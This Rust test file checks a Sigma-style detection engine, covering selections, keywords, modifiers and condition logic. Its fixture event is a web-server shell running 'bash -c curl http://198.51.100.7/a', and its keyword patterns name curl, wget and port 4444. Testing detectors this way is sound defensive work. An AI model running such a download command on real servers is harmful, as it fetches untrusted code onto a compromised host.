//! Shapes of detections and conditions.

use std::fs;

use super::{super::super::category::Category, Named, TAIL, Value, head, load, matched};

/// Names of users in the acts below.
pub(super) const USERS: &[&str] = &["www-data", "root"];

/// A download by a shell of a service.
const SHELL: &[(&str, Value)] = &[
    ("Image", Some("/usr/bin/bash")),
    ("CommandLine", Some("bash -c curl http://198.51.100.7/a")),
    ("ParentImage", Some("/usr/sbin/php-fpm8.2")),
    ("ParentCommandLine", Some("php-fpm: pool www")),
    ("CurrentDirectory", Some("/var/www/html")),
    ("User", Some("www-data")),
    ("LogonId", None),
];

/// The same with one thing different.
fn near(field: &'static str, value: Value) -> Named {
    let mut named = Named {
        category: Category::Process,
        fields: SHELL.to_vec(),
    };
    let mut slots = named.fields.iter_mut();
    slots.find(|(name, _)| *name == field).unwrap().1 = value;
    named
}

fn shell() -> Named {
    Named {
        category: Category::Process,
        fields: SHELL.to_vec(),
    }
}

/// Checks for each detection, as YAML in braces, which of the acts it matches.
fn check<const N: usize>(detections: &[(String, [bool; N])], acts: [&Named; N]) {
    let directory = tempfile::tempdir().unwrap();
    for (index, (detection, _)) in detections.iter().enumerate() {
        let head = head(index, "process_creation");
        let rule = format!("{head}detection: {{{detection}}}\n{TAIL}");
        fs::write(directory.path().join(format!("{index}.yml")), rule).unwrap();
    }
    let mut detector = load(directory.path(), |_| false);
    let found = acts.map(|act| matched(&mut detector, act));
    for (index, (detection, expected)) in detections.iter().enumerate() {
        let rule = format!("dialect_{index}");
        let fired = found.each_ref().map(|names| names.contains(&rule));
        assert_eq!(fired, *expected, "{detection}");
    }
}

#[test]
fn maps_lists_of_maps_and_lists_of_values() {
    let root = near("User", Some("root"));
    let git = near("CommandLine", Some("git pull"));
    let zsh = near("Image", Some("/usr/bin/zsh"));
    let detections = [
        // All of a map.
        (
            "{Image|endswith: /bash, User: www-data}",
            [true, false, true, false],
        ),
        (
            "{Image|endswith: /bash, CommandLine|contains|all: [curl, http]}",
            [true, true, false, false],
        ),
        // Any of a list of maps.
        (
            "[{User: root}, {CommandLine|contains: git}]",
            [false, true, true, false],
        ),
        (
            "[{User: root, Image|endswith: /zsh}, {CommandLine: git pull}]",
            [false, false, true, false],
        ),
        // Any of a field's list, of another shape each.
        (
            "{Image: [/usr/bin/zsh, '*/fish', '?usr?bin?bash']}",
            [true, true, true, true],
        ),
        (
            "{Image|endswith: [/zsh, /fish]}",
            [false, false, false, true],
        ),
        // The same field twice, by two modifiers.
        (
            "{Image|startswith: /usr/, Image|endswith: /bash}",
            [true, true, true, false],
        ),
        ("{LogonId: null, User: root}", [false, true, false, false]),
        (
            "{LogonId: [0, null], User: root}",
            [false, true, false, false],
        ),
        ("{LogonId: [0, 1000], User: root}", [false; 4]),
    ]
    .map(|(selection, expected)| (format!("s: {selection}, condition: s"), expected));
    check(&detections, [&shell(), &root, &git, &zsh]);
}

#[test]
fn keywords_are_looked_for_in_every_text() {
    let root = near("User", Some("root"));
    let git = near("CommandLine", Some("git pull"));
    let mut detections = [
        ("[curl]", [true, true, false]),
        ("[CURL]", [true, true, false]),
        ("[wget, git]", [false, false, true]),
        ("['198.51.100.7/a', nothing]", [true, true, false]),
        ("['c*//']", [true, true, false]),
        ("['ba?h -c curl']", [true, true, false]),
        ("['www-data']", [true, false, true]),
        ("[4444]", [false, false, false]),
        ("[198]", [true, true, false]),
        ("['?ttp://198']", [true, true, false]),
        (
            "{'|all': [curl, 'http*7', '?ww-data']}",
            [true, false, false],
        ),
        ("{'|all': [curl, www-data]}", [true, false, false]),
        ("{'|all': [curl, git]}", [false, false, false]),
        ("{'|re': 'curl +http'}", [true, true, false]),
        ("{'|contains': [git]}", [false, false, true]),
    ]
    .map(|(keywords, it)| (format!("keywords: {keywords}, condition: keywords"), it))
    .to_vec();
    let both = "keywords: [curl], s: {User: root}, condition: keywords and not s";
    detections.push((both.to_owned(), [true, false, false]));
    check(&detections, [&shell(), &root, &git]);
}

/// Selections that hold and that do not, of the shell.
const NAMED: &str = "selection_img: {Image|endswith: /bash}, selection_cli: {CommandLine|contains: curl}, \
    selection_no: {CommandLine|contains: wget}, filter_main_user: {User: root}, \
    filter_optional_dir: {CurrentDirectory|startswith: /var/www}, _private: {User: nobody}";

#[test]
fn conditions_of_every_form() {
    let detections = [
        ("selection_img", true),
        ("selection_no", false),
        ("not selection_no", true),
        ("not selection_img", false),
        ("not not selection_img", true),
        ("selection_img and selection_cli", true),
        ("selection_img and selection_no", false),
        ("selection_no or selection_img", true),
        ("selection_no or filter_main_user", false),
        ("1 of selection_*", true),
        ("1 of filter_main_*", false),
        ("all of selection_i*", true),
        ("all of selection_*", false),
        ("any of selection_*", true),
        ("1 of them", true),
        ("all of them", false),
        ("1 of *_cli", true),
        ("all of selection_img", true),
        ("not 1 of filter_main_*", true),
        ("not 1 of filter_*", false),
        ("not all of filter_*", true),
        ("selection_img and not 1 of filter_main_*", true),
        (
            "1 of selection_* and not 1 of filter_main_* and not 1 of filter_optional_*",
            false,
        ),
        // `not` binds before `and`, `and` before `or`.
        ("selection_no and selection_no or selection_img", true),
        ("selection_img or selection_no and selection_no", true),
        ("(selection_img or selection_no) and selection_no", false),
        ("not selection_no and selection_img", true),
        ("not (selection_no and selection_img)", true),
        ("not (selection_img or selection_no)", false),
        (
            "((selection_img and (selection_cli or selection_no)) and not (filter_main_user))",
            true,
        ),
        (
            "(selection_no or (selection_img and not (selection_cli and not filter_main_user)))",
            false,
        ),
        (
            "(1 of selection_* and not (all of filter_*)) or filter_main_user",
            true,
        ),
        ("[selection_no, selection_img]", true),
        ("[selection_no, filter_main_user]", false),
    ]
    .map(|(condition, it)| (format!("{NAMED}, condition: {condition}"), [it]));
    check(&detections, [&shell()]);
}

#[test]
fn a_name_that_begins_with_an_underscore_is_none_of_them() {
    let detections = [
        (
            "a: {Image|endswith: /bash}, _b: {User: nobody}, condition: all of them",
            true,
        ),
        (
            "a: {User: nobody}, _b: {Image|endswith: /bash}, condition: 1 of them",
            false,
        ),
        (
            "a: {User: nobody}, _b: {Image|endswith: /bash}, condition: _b",
            true,
        ),
    ]
    .map(|(detection, it)| (detection.to_owned(), [it]));
    check(&detections, [&shell()]);
}

#[test]
fn a_condition_on_several_lines() {
    let directory = tempfile::tempdir().unwrap();
    let rule = format!(
        "{}detection:\n    selection_img:\n        - Image|endswith:\n              - '/bash'\n              \
         - '/zsh'\n        - ParentImage|contains: 'nothing'\n    selection_cli:\n        \
         CommandLine|contains|all:\n            - 'curl'\n            - 'http'\n    filter_main_root:\n        \
         User: 'root'\n    condition: >\n        all of selection_*\n        and not 1 of filter_main_*\n{TAIL}",
        head(0, "process_creation")
    );
    fs::write(directory.path().join("rule.yml"), rule).unwrap();
    let mut detector = load(directory.path(), |_| false);
    assert_eq!(matched(&mut detector, &shell()), ["dialect_0"]);
    assert!(matched(&mut detector, &near("User", Some("root"))).is_empty());
    assert!(matched(&mut detector, &near("CommandLine", Some("curl ftp://x"))).is_empty());
}
